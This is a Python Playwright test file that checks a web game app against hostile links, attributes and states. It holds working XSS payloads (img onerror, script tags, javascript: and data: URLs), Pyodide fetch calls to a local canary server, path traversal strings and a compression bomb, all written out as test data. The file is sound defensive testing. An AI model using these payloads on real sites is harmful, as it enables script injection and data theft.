"""Hostile links and attributes run nothing and cause no requests."""

import base64
import random
import zlib
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Request, expect

from e2e.hosts import ALIVE, Host, static_game
from e2e.reader import PATIENCE, Reader, quiet, wait_for
from e2e.site_server import Site
from tier import tier

RAN = "window.ran = true"
PAYLOADS = {
    "an image": f'<img src="CANARY" onerror="{RAN}">',
    "a script": f'"><script src="CANARY"></script><script>{RAN}</script>',
    "a frame": f"<iframe srcdoc=\"<script>parent.{RAN.replace('window.', '')}</script>\" src='CANARY'></iframe>",
    "an address that runs": f"javascript:{RAN},fetch('CANARY')",
    "an address that is a page": f"data:text/html,<script>{RAN}</script><img src=CANARY>",
    "a program": 'def wins(p):\n    import js\n    js.fetch("CANARY")\n    js.ran = 1',
    "an expression": '__import__("js").fetch("CANARY")',
    "a path": "../../../../..//CANARY",
    "a long text": "A" * 300_000,
    "a bomb": base64.urlsafe_b64encode(zlib.compress(bytes(50_000_000), 9)).decode(),
}
# The places for a payload: each field of a link, and the whole link.
FIELDS = ("", "v", "g", "p", "c", "l", "o", "w", "h", "n")
USUAL = {"v": "v1", "g": "knight-queen", "p": "N5,4_Q3,3"}
ATTRIBUTES = ("game", "position", "set", "convention", "mode", "players", "show", "lang", "theme", "load")
KEYS = ("game", "position", "set", "convention", "mode", "players", "first", "moves", "__proto__", "state")
# Open links one after the other in the same page, each once the previous one is answered or refused.
OPEN = """async (links) => {
    const app = document.querySelector("nimbers-app");
    const frame = () => new Promise(requestAnimationFrame);
    const { session } = app.renderRoot.querySelector("nimbers-form");
    const busy = () => ["working", "waiting", "idle"].includes(session.status);
    for (const link of links) {
        const changed = new Promise((there) => addEventListener("hashchange", there, { once: true }));
        location.hash = link;
        await changed;
        await app.updateComplete;
        for (let i = 0; i < 1000 && busy(); i++) await frame();
        await frame();
    }
}"""
FRAME = """async (links) => {
    for (const link of links) {
        const changed = new Promise((there) => addEventListener("hashchange", there, { once: true }));
        location.hash = link;
        await changed;
        await new Promise(requestAnimationFrame);
    }
}"""
STATES = """([keys, payloads]) => {
    const game = document.querySelector("nimbers-game");
    for (const key of keys) for (const payload of payloads) {
        const usual = { game: "nim", position: "3,4,5", mode: "play" };
        game.state = { ...usual, ...JSON.parse(JSON.stringify({ [key]: payload })) };
        game.state = JSON.parse(`{"game": "nim", ${JSON.stringify(key)}: {"x": ${JSON.stringify(payload)}}}`);
        game.state = { ...usual, moves: [payload] };
        game.state = { ...usual, set: { [key]: payload, [payload]: key } };
    }
    return keys.length * payloads.length;
}"""


@pytest.fixture
def canary(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A server that notes any request."""
    with Site(tmp_path_factory.mktemp("canary")) as server:
        yield server


@pytest.fixture
def payloads(canary: Site) -> list[str]:
    return [one.replace("CANARY", canary.url + "stolen") for one in PAYLOADS.values()]


def links(payloads: list[str]) -> list[str]:
    """Return every payload in every place, plain or escaped as mail programs do; half of the programs are packed."""
    found = []
    pick = random.Random(7)
    for field in FIELDS:
        for payload in payloads:
            text = payload
            if field == "w" or pick.random() < 0.2:
                text = base64.urlsafe_b64encode(payload[:3000].encode()).decode().rstrip("=")
            if not field:
                found.append(f"#{quote(text) if pick.random() < 0.5 else text}")
                continue
            fields = USUAL | {field: text} | ({"o": "friend"} if field in "wh" else {})
            version = fields.pop("v")
            whole = f"{version};" + ";".join(f"{name}={value}" for name, value in fields.items())
            found.append(f"#{quote(whole, safe='=;') if pick.random() < 0.5 else whole}")
    return found


def harm(page: Page, canary: Site, framed: list[object], asked: list[str], site: str) -> dict[str, object]:
    """Return what ran, what was requested and what was inserted into the page."""
    return {
        "ran": [frame.evaluate("window.ran ?? null") for frame in page.frames if frame.evaluate("window.ran ?? null")],
        "canary": canary.hits,
        "frames": len(framed),
        "asked": [url for url in asked if not url.startswith((site, "data:", "blob:"))],
        "images": page.locator("img[onerror], script:has-text('ran')").count(),
    }


NONE: dict[str, object] = {"ran": [], "canary": [], "frames": 0, "asked": [], "images": 0}


@pytest.fixture
def watched(context: BrowserContext) -> Page:
    """A page whose requests, frames and dialogs are recorded."""
    page = context.new_page()

    def on_dialog(dialog: Dialog) -> None:
        dialog.dismiss()
        page.evaluate(RAN)

    page.on("dialog", on_dialog)
    return page


def asked_of(page: Page) -> tuple[list[object], list[str]]:
    framed: list[object] = []
    asked: list[str] = []
    page.on("frameattached", lambda frame: framed.append(frame))

    def on_request(request: Request) -> None:
        asked.append(request.url)

    page.on("request", on_request)
    return framed, asked


@pytest.mark.firefox
def test_a_hundred_links(watched: Page, site: Site, canary: Site, payloads: list[str]) -> None:
    """A page that opens hostile links (100 with `--all`) runs nothing, sends nothing, and answers the next position."""
    framed, asked = asked_of(watched)
    reader = Reader(watched, site)
    reader.open("games/knight-queen/#v1;g=knight-queen;p=N5,4_Q3,3")
    reader.sees("wins")
    bad = links(payloads)
    assert len(bad) == len(set(bad)) == 100
    watched.evaluate(OPEN, tier.sample(bad, 5))
    watched.goto(f"{site.url}games/knight-queen/#v1;g=knight-queen;p=N0,0_Q0,0")
    reader.sees("loses")

    assert harm(watched, canary, framed, asked, site.url) == NONE


@pytest.mark.gate
@pytest.mark.firefox
def test_hostile_links_that_are_opened(watched: Page, site: Site, canary: Site, payloads: list[str]) -> None:
    """A visit that begins with a hostile link stays on the site, whatever path or game the link names."""
    framed, asked = asked_of(watched)
    site.fault("pyodide.asm-*.wasm", "hang")  # these links do not need it
    short = [one for one in links(payloads) if len(one) < 10_000]
    for number, link in enumerate(short[:: tier.many(21, 7)]):
        watched.goto(f"{site.url}{'games/nim/' if number % 2 else ''}?{number}{link}", wait_until="commit")
        expect(watched.locator("nimbers-app .page")).to_be_attached(timeout=PATIENCE)
        assert watched.url.startswith(site.url)

    assert harm(watched, canary, framed, asked, site.url) == NONE


@pytest.mark.firefox
def test_the_element_in_a_page_without_a_policy(
    watched: Page, tmp_path: Path, canary: Site, payloads: list[str]
) -> None:
    """100 hostile attributes, 300 hostile states and 100 links of the frame stay text."""
    framed, asked = asked_of(watched)
    with Host(tmp_path) as host:
        watched.goto(host.write(f'<div id="bad"></div>{static_game("nim", "3,4,5")}'))
        expect(watched.locator(ALIVE)).to_have_count(1, timeout=PATIENCE)
        assert watched.evaluate(STATES, [list(KEYS), payloads]) == 100
        count = watched.evaluate(
            """([attributes, payloads]) => {
                window.settled = 0;
                for (const name of attributes) for (const payload of payloads) {
                    const game = document.createElement("nimbers-game");
                    for (const event of ["ready", "error"])
                        game.addEventListener(`nimbers-${event}`, () => { settled += 1; }, { once: true });
                    game.setAttribute("game", "counter");
                    game.setAttribute("position", "6");
                    game.setAttribute(name, payload);
                    document.querySelector("#bad").append(game);
                }
                return document.querySelectorAll("#bad > *").length;
            }""",
            [list(ATTRIBUTES), payloads],
        )
        assert count == 100
        game = watched.locator("nimbers-game").last
        game.evaluate("game => { game.state = { game: 'nim', position: '2,2' }; }")
        expect(game.locator("[part~=verdict]")).to_contain_text("loses", timeout=PATIENCE)
        wait_for(watched, lambda: watched.evaluate("settled") >= 60)
        assert harm(watched, canary, framed, asked, host.url) == NONE

        watched.goto(f"{host.url}nimbers/embed.html#v1;g=nim;p=3,4,5")
        expect(watched.locator(ALIVE)).to_have_count(1, timeout=PATIENCE)
        watched.evaluate(FRAME, links(payloads))
        assert harm(watched, canary, framed, asked, host.url) == NONE


@pytest.mark.firefox
def test_the_watch_sees_harm(watched: Page, tmp_path: Path, canary: Site, payloads: list[str]) -> None:
    """Inserted as markup, the same payloads run and send requests, so the tests above can fail."""
    framed, asked = asked_of(watched)
    with Host(tmp_path) as host:
        watched.goto(host.write("<p>A page that trusts its links.</p>"))
        watched.evaluate("payloads => { document.body.innerHTML = payloads.join(''); }", payloads[:3])
        watched.wait_for_function("window.ran === true")
        wait_for(watched, lambda: all(harm(watched, canary, framed, asked, host.url).values()))


# The number of bytes given to each decompression stream.
GIVEN = """
window.given = [];
const Inflating = DecompressionStream;
window.DecompressionStream = class {
  constructor(format) {
    const { readable, writable } = new Inflating(format);
    const writer = writable.getWriter();
    const at = given.push(0) - 1;
    const write = (chunk) => { given[at] += chunk.length; return writer.write(chunk); };
    this.readable = readable;
    this.writable = new WritableStream({ write, close: () => writer.close(), abort: (why) => writer.abort(why) });
  }
};
"""
ZEROS = zlib.compressobj(9, zlib.DEFLATED, -15)
BOMB = base64.urlsafe_b64encode(ZEROS.compress(bytes(6_000_000)) + ZEROS.flush()).decode().rstrip("=")


@pytest.mark.gate
@pytest.mark.firefox
@pytest.mark.parametrize(
    "link",
    [
        f"games/nim/#v1;g=nim;p=3,4,5;t=judge;x={BOMB}",
        f"games/own/#v1;g=own;rules=integer.{BOMB}",
    ],
    ids=["panel", "program"],
)
@pytest.mark.sampled(2, "other places for a bomb")
def test_a_bomb_is_not_unfolded(page: Page, site: Site, link: str) -> None:
    """The page inflates no more of a compressed bomb than it may show, and its thread is not blocked."""
    page.add_init_script(GIVEN)
    page.goto(site.url + link)
    wait_for(page, lambda: bool(page.evaluate("given.some((bytes) => bytes > 0)")))
    quiet(page)
    given = page.evaluate("given")

    assert max(given) < 500 < len(BOMB) / 4 * 3


@pytest.mark.firefox
def test_a_name_turns_no_words_of_ours(page: Page, site: Site) -> None:
    """The words after a player's name appear to its right, whatever direction marks the name contains."""
    names = "+".join(
        base64.urlsafe_b64encode(name.encode()).decode().rstrip("=") for name in ("\u202eadA", "\u2069\u202ebo")
    )
    page.goto(f"{site.url}games/nim/#v1;g=nim;p=3,4,5;o=friend;w={names}")
    told = page.get_by_text("to move.").first
    expect(told).to_contain_text("\u2068\u202eadA\u2069 to move.", timeout=PATIENCE)
    places = told.evaluate("""(element) => {
        const node = [...element.childNodes].find(({ data }) => data?.includes("\u202e"));
        const left = (at) => {
            const range = document.createRange();
            range.setStart(node, at);
            range.setEnd(node, at + 1);
            return range.getBoundingClientRect().left;
        };
        return ["A", "t", "m"].map((sign) => left(node.data.indexOf(sign)));
    }""")

    assert places == sorted(places)
